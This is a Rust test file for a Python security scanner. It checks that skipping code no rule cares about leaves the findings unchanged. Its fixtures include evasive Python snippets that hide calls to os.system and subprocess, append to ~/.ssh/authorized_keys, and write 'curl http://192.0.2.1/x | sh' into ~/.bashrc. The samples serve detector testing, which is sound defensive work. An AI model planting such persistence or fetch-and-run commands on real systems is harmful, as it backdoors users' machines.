//! Python that mentions nothing which a rule asks about is not walked: nothing is found by walking it either.

use std::sync::Arc;

use base::{budget::NoWatch, fact::Fact, finding::Finding};
use engine::{Recorder, Scanner, Settings};
use rules::Catalogue;

use crate::memory::{Item, Tree, target};

/// Sees everything, and says nothing: for it all is walked.
struct Looking;

impl Recorder for Looking {
    fn fact(&self, _: &str, _: &Fact) {}
}

/// The findings of all of `files`, with and without somebody who looks on.
fn findings(files: &Tree) -> [Vec<Finding>; 2] {
    let scanner = Scanner::new(Catalogue::builtin(), Settings::default());
    [None, Some(&Looking as &dyn Recorder)].map(|recorder| {
        let targets = vec![target("files", Item::Folder(files.clone()))];
        scanner.scan_recorded(targets, Arc::new(NoWatch), recorder).findings
    })
}

const PROGRAMS: [&str; 3] = [
    include_str!("../../../python/testdata/evasions.txt"),
    include_str!("../../../python/testdata/lost.txt"),
    include_str!("../../../python/testdata/reached.txt"),
];
const COMPILED: [&str; 4] = [
    include_str!("../../../python/testdata/bytecode/by-hand-3.8.txt"),
    include_str!("../../../python/testdata/bytecode/by-hand-3.12.txt"),
    include_str!("../../../python/testdata/bytecode/lost-3.8.txt"),
    include_str!("../../../python/testdata/bytecode/lost-3.13.txt"),
];

/// Programs that reach what they use through what something else gives.
const REACHING: [&str; 10] = [
    "class M(type):\n    def __new__(m, n, b, ns):\n        ns['go']('id')\n        return type.__new__(m, n, b, ns)\nclass A(metaclass=M):\n    from os import system as go\n",
    "class A:\n    from os import system as go\nA().go('id')\n",
    "class A:\n    import subprocess as go\nclass B(A): pass\nmatch B():\n    case B(go=x): x.run('id')\n",
    "from pathlib import Path\nPath.home().joinpath('.bashrc').write_text('curl http://192.0.2.1/x | sh')\n",
    "from pathlib import Path\n(Path.home() / '.bashrc').write_text('curl http://192.0.2.1/x | sh')\n",
    "import pathlib\np = pathlib.PosixPath.cwd()\n(p / '..' / '.ssh' / 'authorized_keys').open('a').write('x')\n",
    "import requests\nrequests.Session().mount('http://192.0.2.1', 1)\n",
    "import requests as r\ns = r.Session()\ns.send(1)\n",
    "import urllib.request as u\nu.build_opener().open('http://192.0.2.1/x')\n",
    "import asyncio\nasync def f(): await asyncio.get_event_loop().subprocess_shell(None, 'id')\nasyncio.run(f())\n",
];

#[test]
fn walking_what_is_left_finds_nothing_more() {
    let mut files = Tree::default();
    let programs = PROGRAMS.iter().flat_map(|programs| programs.split("\n### ").skip(1));
    for (index, program) in programs.enumerate() {
        let (_, source) = program.split_once('\n').unwrap();
        files = files.file(&format!("{index}.py"), source);
    }
    for (index, source) in REACHING.iter().enumerate() {
        files = files.file(&format!("reaching-{index}.py"), *source);
    }
    for (index, line) in COMPILED.iter().flat_map(|lines| lines.lines()).enumerate() {
        let digits = line.as_bytes().chunks(2).map(|pair| std::str::from_utf8(pair).unwrap());
        let bytes: Vec<u8> = digits.map(|pair| u8::from_str_radix(pair, 16).unwrap()).collect();
        files = files.file(&format!("{index}.pyc"), bytes);
    }
    let [scanned, walked] = findings(&files);
    assert!(scanned.len() > 1_000, "{}", scanned.len());
    for (one, other) in scanned.iter().zip(&walked) {
        assert_eq!(one, other);
    }
    assert_eq!(scanned.len(), walked.len());
}
